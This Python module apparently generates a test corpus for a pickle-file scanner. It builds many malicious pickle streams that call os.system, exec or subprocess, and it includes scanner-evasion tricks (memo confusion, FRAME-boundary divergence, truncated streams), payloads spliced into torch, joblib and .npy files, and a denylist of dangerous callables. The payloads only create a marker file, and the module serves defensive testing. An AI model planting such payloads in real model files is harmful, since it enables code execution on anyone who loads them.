"""Generated pickle corpus: every published pickle technique (malicious) and benign files
made by the real libraries.

Payloads are harmless: the only effect any of them could have if loaded is to create the
marker file passed in (shell ``touch``, Python ``open(marker, 'w')``) or to fail. Nothing
here is ever loaded by the scanner tests except the frame-divergence check, which runs in
a subprocess inside a temporary directory.

Import from tests or benchmarks: ``malicious_samples(marker)`` -> {name: bytes};
``write_benign(directory)`` -> list of paths (needs torch, sklearn, joblib, numpy, ...).
"""

from __future__ import annotations

import pickle
import struct
from pathlib import Path

MAGIC_TORCH = 0x1950A86A20F9469CFC6C


def _s4(text: str) -> bytes:
    """SHORT_BINUNICODE of ``text``."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _args(*args: object) -> bytes:
    """Protocol-2 opcodes that push the tuple ``args`` (no PROTO, no STOP)."""
    return pickle.dumps(tuple(args), protocol=2)[2:-1]


def call_global(module: str, name: str, *args: object) -> bytes:
    """Protocol 2: GLOBAL module name, args tuple, REDUCE, STOP."""
    return (b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n" + _args(*args)
            + b"R.")


def call_stack_global(module: str, name: str, *args: object) -> bytes:
    """Protocol 4: STACK_GLOBAL fed by SHORT_BINUNICODE."""
    return b"\x80\x04" + _s4(module) + _s4(name) + b"\x93" + _args(*args) + b"R."


def _shell(marker: str) -> str:
    return f"touch {marker}"


def _code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


# (module, qualname, argument kind) for scanner-landscape.md's "Denylist gaps".
DENYLIST_GAPS: list[tuple[str, str, str]] = [
    ("pip", "main", "argv"), ("pkgutil", "resolve_name", "name"),
    ("importlib", "import_module", "name"), ("builtins", "__import__", "name"),
    ("builtins", "eval", "code"), ("builtins", "exec", "code"), ("os", "system", "shell"),
    ("posix", "system", "shell"), ("subprocess", "Popen", "shell"),
    ("subprocess", "check_output", "shell"), ("timeit", "timeit", "code"),
    ("cProfile", "run", "code"), ("profile", "run", "code"), ("pdb", "run", "code"),
    ("bdb", "Bdb.run", "code"), ("trace", "Trace.run", "code"),
    ("code", "InteractiveInterpreter.runcode", "code"), ("doctest", "debug_script", "code"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", "code"),
    ("lib2to3.pgen2.pgen", "generate_grammar", "path"), ("ensurepip", "_run_pip", "argv"),
    ("runpy", "_run_code", "code"), ("numpy.testing._private.utils", "runstring", "code"),
    ("numpy.f2py.f2py2e", "run_main", "argv"), ("ctypes", "CDLL", "path"),
    ("pty", "spawn", "shell"), ("webbrowser", "open", "path"), ("shutil", "rmtree", "path"),
    ("distutils.file_util", "write_file", "path"), ("logging", "FileHandler", "path"),
    ("_io", "FileIO", "path"), ("urllib.request", "urlopen", "url"),
    ("smtplib", "SMTP", "host"), ("imaplib", "IMAP4_stream", "shell"),
    ("uuid", "_get_command_stdout", "shell"), ("_osx_support", "_read_output", "shell"),
    ("_aix_support", "_read_cmd_output", "shell"), ("_pyrepl.pager", "pipe_pager", "shell"),
    ("pydoc", "pipepager", "shell"), ("pydoc", "locate", "name"), ("venv", "create", "path"),
    ("test.support.script_helper", "assert_python_ok", "code"),
    ("_interpreters", "create", "none"), ("types", "CodeType", "none"),
    ("types", "FunctionType", "none"), ("marshal", "loads", "bytes"),
    ("cloudpickle.cloudpickle", "_make_function", "none"),
    ("multiprocessing.util", "spawnv_passfds", "shell"), ("pandas", "read_csv", "url"),
    ("mlflow.projects", "run", "path"), ("torch.hub", "load", "name"),
    ("torch.jit", "load", "path"), ("torch.serialization", "load", "path"),
    ("torch._inductor.codecache", "compile_file", "path"),
    ("torch.utils.collect_env", "run", "shell"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", "code"),
    ("torch._dynamo.guards", "GuardBuilder.get", "code"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "code"),
    ("torch.utils._config_module", "ConfigModule.load_config", "bytes"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", "shell"),
    ("operator", "attrgetter", "name"), ("operator", "itemgetter", "name"),
    ("operator", "methodcaller", "name"),
]


def _arg(kind: str, marker: str) -> tuple[object, ...]:
    return {
        "shell": (_shell(marker),), "code": (_code(marker),), "argv": ([marker],),
        "name": ("os",), "path": (marker,), "url": (f"file://{marker}",),
        "host": ("localhost.invalid",), "bytes": (b"\x00",), "none": (),
    }[kind]


def _frame_exploit(marker: str, *, verified: bool) -> bytes:
    """FRAME-boundary divergence (gh-154848).

    The described layout: ~128 KiB UNICODE+POP filler, MARK, FRAME of length 2, BINBYTES of
    length 0x107 whose data is GLOBAL ... REDUCE padded with NONE, POP_MARK, STOP. With
    ``verified`` the data is shifted so that CPython 3.11's C unpickler, loading a file,
    really runs it: the frame's second byte is dropped, the length read from the frame end
    is 1, and execution continues inside the "data". The frame data straddles a 8 KiB (and
    4 KiB) boundary so that ``peek`` returns one byte and ``read`` buffers the frame.
    """
    payload = b"cbuiltins\nopen\n(V" + marker.encode() + b"\nVw\ntR0"
    data = (b"\x00N" + payload) if verified else payload
    data += b"N" * (0x107 - len(data))
    fill = 131055  # frame data starts at 8192 * 16 - 1
    body = b"\x80\x04V" + b"A" * fill + b"\n0N("
    body += b"\x95" + struct.pack("<Q", 2) + b"B" + struct.pack("<I", 0x107) + data
    return body + b"1."


def malicious_samples(marker: str) -> dict[str, bytes]:
    """Every technique as a standalone stream; all must be judged malicious."""
    m = marker
    s: dict[str, bytes] = {}
    for module, name, kind in DENYLIST_GAPS:
        s[f"gap-{module}.{name}"] = call_stack_global(module, name, *_arg(kind, m))
    s["proto0-global-os-system"] = b"cos\nsystem\n(S'" + _shell(m).encode() + b"'\ntR."
    s["proto2-global-builtins-exec"] = call_global("__builtin__", "exec", _code(m))
    s["pkgutil-resolve-then-call"] = (
        b"\x80\x04" + _s4("pkgutil") + _s4("resolve_name") + b"\x93" + _s4("os:system")
        + b"\x85R" + _s4(_shell(m)) + b"\x85R.")
    s["getattr-import-chain"] = (
        b"\x80\x04" + _s4("builtins") + _s4("getattr") + b"\x93" + _s4("builtins")
        + _s4("__import__") + b"\x93" + _s4("os") + b"\x85R" + _s4("system") + b"\x86R"
        + _s4(_shell(m)) + b"\x85R.")
    s["getattr-builtins-eval"] = (
        b"\x80\x04" + _s4("builtins") + _s4("getattr") + b"\x93" + _s4("builtins")
        + _s4("globals") + b"\x93)R" + _s4("get") + b"\x86R.")
    s["operator-on-sys-modules"] = (
        b"\x80\x04" + _s4("operator") + _s4("itemgetter") + b"\x93" + _s4("os") + b"\x85R"
        + _s4("sys") + _s4("modules") + b"\x93\x85R.")
    # A partial only wraps its target; calling it calls the target (here not a listed one).
    s["functools-partial-called"] = (
        b"\x80\x04" + _s4("functools") + _s4("partial") + b"\x93" + _s4("codecs")
        + _s4("open") + b"\x93" + _s4(m) + _s4("w") + b"\x87R)R.")
    s["functools-partial-os-system"] = (
        b"\x80\x04" + _s4("functools") + _s4("partial") + b"\x93" + _s4("os") + _s4("system")
        + b"\x93" + _s4(_shell(m)) + b"\x86R)R.")
    # Parser divergence.
    s["memo-confusion"] = (
        b"\x80\x04" + _s4("collections") + b"q\x00" + _s4("OrderedDict") + b"q\x01"
        + _s4("os") + b"q\x02" + _s4("system") + b"q\x03" + b"0000"
        + b"h\x02h\x03\x93" + _s4(_shell(m)) + b"\x85R.")
    s["memo-overwrite"] = (
        b"\x80\x04" + _s4("collections") + b"q\x00" + _s4("OrderedDict") + b"q\x01" + b"00"
        + _s4("os") + b"q\x00" + _s4("system") + b"q\x01" + b"00"
        + b"h\x00h\x01\x93" + _s4(_shell(m)) + b"\x85R.")
    s["memo-missing-after-payload"] = (
        call_stack_global("os", "system", _shell(m))[:-1] + b"0" + b"h\x09h\x0a\x93N.")
    s["memo-int-after-payload"] = (
        call_stack_global("os", "system", _shell(m))[:-1] + b"0" + b"K\x07q\x05"
        + b"h\x05h\x05\x93N.")
    s["stack-global-from-string"] = (
        b"S'os'\nS'system'\n\x93(S'" + _shell(m).encode() + b"'\ntR.")
    s["stack-global-from-binstring"] = (
        b"\x80\x02U\x02osU\x06system\x93(U" + bytes([len(_shell(m))]) + _shell(m).encode()
        + b"tR.")
    s["stack-global-from-unicode"] = b"Vos\nVsystem\n\x93(V" + _shell(m).encode() + b"\ntR."
    s["dotted-logging-os-system"] = call_stack_global("logging", "os.system", _shell(m))
    s["dotted-subclasses"] = call_stack_global("builtins", "object.__subclasses__")
    s["inst-opcode"] = b"(S'" + _shell(m).encode() + b"'\nios\nsystem\n."
    s["obj-opcode"] = b"(cos\nsystem\nS'" + _shell(m).encode() + b"'\no."
    s["obj-call-popped"] = (
        b"\x80\x04(" + _s4("smtplib") + _s4("SMTP") + b"\x93" + _s4("localhost.invalid")
        + b"o0N.")
    s["newobj-ex-unknown-then-call"] = (
        b"\x80\x04" + _s4("evil_pkg.runner") + _s4("Runner") + b"\x93" + _s4(m) + b"\x85R.")
    s["frame-divergence-described"] = _frame_exploit(m, verified=False)
    s["frame-divergence-cpython311"] = _frame_exploit(m, verified=True)
    # nullifAI: payload first, then garbage and no STOP.
    s["broken-stream-nullifai"] = (
        call_stack_global("os", "system", _shell(m))[:-1] + b"0\xff\xfe garbage")
    s["broken-stream-truncated"] = call_stack_global("subprocess", "Popen", _shell(m))[:-1]
    s["nested-pickle-loads"] = call_stack_global(
        "pickle", "loads", call_global("os", "system", _shell(m)))
    s["nested-_pickle-loads"] = call_stack_global(
        "_pickle", "loads", call_global("builtins", "print", "x"))
    s["ext-code-call"] = b"\x80\x02\x82\x07" + _args(_shell(m)) + b"R."
    s["build-mutates-module"] = (
        b"\x80\x02ccollections\nOrderedDict\nN}X\x03\x00\x00\x00fooK\x01s\x86b.")
    s["dill-create-code"] = call_stack_global("dill._dill", "_create_code", 0)
    s["dill-load-type-code"] = (
        b"\x80\x04" + _s4("dill._dill") + _s4("_load_type") + b"\x93" + _s4("CodeType")
        + b"\x85R.")
    s["cloudpickle-builtin-type-function"] = (
        b"\x80\x04" + _s4("cloudpickle.cloudpickle") + _s4("_builtin_type") + b"\x93"
        + _s4("FunctionType") + b"\x85R.")
    s["unknown-callable-invoked"] = call_stack_global("evil_pkg.tools", "run", _shell(m))
    s["main-module-import"] = call_stack_global("pip.__main__", "_main")
    s["defaultdict-os-system"] = (
        b"\x80\x04" + _s4("collections") + _s4("defaultdict") + b"\x93" + _s4("os")
        + _s4("system") + b"\x93\x85R.")
    return s


# ------------------------------------------------------------------ file-level samples


def torch_legacy_with_payload(marker: str, index: int) -> bytes:
    """A real legacy torch file whose pickle #``index`` (1-based) is replaced by a payload.

    index 1 is GHSA-97f8-7cmv-76j2 (the "magic number" pickle is a call).
    """
    import io

    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf, _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    bounds = _pickle_bounds(data, 5)
    start, end = bounds[index - 1]
    return data[:start] + call_global("os", "system", _shell(marker)) + data[end:]


def _pickle_bounds(data: bytes, n: int) -> list[tuple[int, int]]:
    import io
    import pickletools

    out = []
    pos = 0
    for _ in range(n):
        f = io.BytesIO(data)
        f.seek(pos)
        for op, _arg, _p in pickletools.genops(f):
            if op.name == "STOP":
                break
        out.append((pos, f.tell()))
        pos = f.tell()
    return out


def joblib_payload_after_buffer(marker: str) -> bytes:
    """Uncompressed joblib file: a payload right after a raw numpy array buffer."""
    import io

    import joblib
    import numpy as np

    arr = np.arange(16, dtype=np.float64)
    buf = io.BytesIO()
    joblib.dump([arr, None], buf)
    data = buf.getvalue()
    raw = arr.tobytes()
    cut = data.index(raw) + len(raw)
    payload = b"c" + b"os\nsystem\n" + _args(_shell(marker)) + b"R0"
    return data[:cut] + payload + data[cut:]


def npy_object_payload(marker: str) -> bytes:
    """An .npy object array whose pickle is a payload."""
    import io

    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array(["a", None], dtype=object), allow_pickle=True)
    data = buf.getvalue()
    hlen = struct.unpack_from("<H", data, 8)[0]
    return data[: 10 + hlen] + call_global("os", "system", _shell(marker))


# ------------------------------------------------------------------ benign files


class _UserNet:  # replaced by a torch.nn.Module subclass at runtime
    pass


def write_benign(directory: Path, *, transformers: bool = True) -> dict[str, Path]:
    """Benign files produced by the real libraries. Returns name -> path."""
    import argparse
    import collections
    import datetime

    import cloudpickle
    import dill
    import joblib
    import numpy as np
    import torch
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    directory.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}

    def path(name: str) -> Path:
        p = directory / name
        out[name] = p
        return p

    rng = np.random.default_rng(0)
    x = rng.random((40, 4))
    y = (x[:, 0] > 0.5).astype(int)
    models = {
        "logreg": LogisticRegression().fit(x, y),
        "forest": RandomForestClassifier(n_estimators=2, random_state=0).fit(x, y),
        "gboost": GradientBoostingClassifier(n_estimators=2).fit(x, y),
        "pipeline": Pipeline([("s", StandardScaler()), ("c", LogisticRegression())]).fit(x, y),
        "knn": KNeighborsClassifier(algorithm="kd_tree").fit(x, y),
    }
    for name, model in models.items():
        with open(path(f"{name}.pkl"), "wb") as fh:
            pickle.dump(model, fh)
        joblib.dump(model, path(f"{name}.joblib"))
    joblib.dump(models["forest"], path("forest.joblib.z"), compress=("zlib", 3))
    joblib.dump({"a": np.arange(10), "o": np.array(["x", None], dtype=object)},
                path("arrays.joblib"))
    state = {"w": torch.zeros(3, 2), "b": torch.ones(2, dtype=torch.bfloat16),
             "i": torch.arange(4)}
    torch.save(state, path("state_dict.pt"))
    torch.save(state, path("state_dict_legacy.pt"), _use_new_zipfile_serialization=False)
    net = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())
    torch.save(net, path("torch_module.pt"))
    torch.save(net, path("torch_module_legacy.pt"), _use_new_zipfile_serialization=False)
    torch.save({"model": net.state_dict(), "optim": torch.optim.SGD(net.parameters(), 0.1)
                .state_dict(), "epoch": 3}, path("checkpoint.pt"))
    np.save(path("strings.npy"), np.array(["a", "bb", None], dtype=object),
            allow_pickle=True)
    np.save(path("numbers.npy"), np.arange(6).reshape(2, 3))
    misc = {"od": collections.OrderedDict(a=1), "dt": datetime.datetime(2024, 1, 2, 3, 4),
            "td": datetime.timedelta(days=1), "ns": argparse.Namespace(lr=0.1),
            "set": {1, 2}, "fs": frozenset({3}), "ba": bytearray(b"xy"), "c": 1 + 2j,
            "sl": slice(1, 5, 2), "r": range(3), "arr": np.arange(3), "dtype": np.dtype("f4"),
            "scalar": np.float32(1.5), "rs": np.random.RandomState(0),
            "gen": np.random.default_rng(1), "dd": collections.defaultdict(list),
            "dq": collections.deque([1]), "cnt": collections.Counter("abca"),
            "bytes": b"\x00\x01", "nested": [(1, 2.5, "s", None, True)]}
    for proto in range(6):
        with open(path(f"containers_p{proto}.pkl"), "wb") as fh:
            pickle.dump(misc if proto >= 2 else {k: v for k, v in misc.items()
                                                  if k in ("od", "dt", "td", "set", "c")},
                        fh, protocol=proto)
    with open(path("plain_dill.pkl"), "wb") as fh:
        dill.dump({"a": [1, 2], "t": type(None), "s": {"x"}}, fh)
    with open(path("plain_cloudpickle.pkl"), "wb") as fh:
        cloudpickle.dump({"a": [1, 2], "arr": np.arange(3)}, fh)
    if transformers:
        _write_transformers(directory, out)
    return out


def _write_transformers(directory: Path, out: dict[str, Path]) -> None:
    import torch
    from transformers import BertConfig, BertModel, TrainingArguments

    cfg = BertConfig(vocab_size=32, hidden_size=8, num_hidden_layers=1,
                     num_attention_heads=2, intermediate_size=8, max_position_embeddings=16)
    model_dir = directory / "bert"
    model = BertModel(cfg)
    try:
        model.save_pretrained(model_dir, safe_serialization=False)
    except TypeError:
        pass
    bins = sorted(model_dir.glob("*.bin")) if model_dir.exists() else []
    if not bins:
        # transformers 5 writes only safetensors; a .bin is torch.save of the state dict,
        # exactly what save_pretrained wrote before.
        model_dir.mkdir(parents=True, exist_ok=True)
        torch.save(model.state_dict(), model_dir / "pytorch_model.bin")
        bins = [model_dir / "pytorch_model.bin"]
    out["pytorch_model.bin"] = bins[0]
    args = TrainingArguments(output_dir=str(directory / "run"), report_to=[])
    torch.save(args, directory / "training_args.bin")
    out["training_args.bin"] = directory / "training_args.bin"
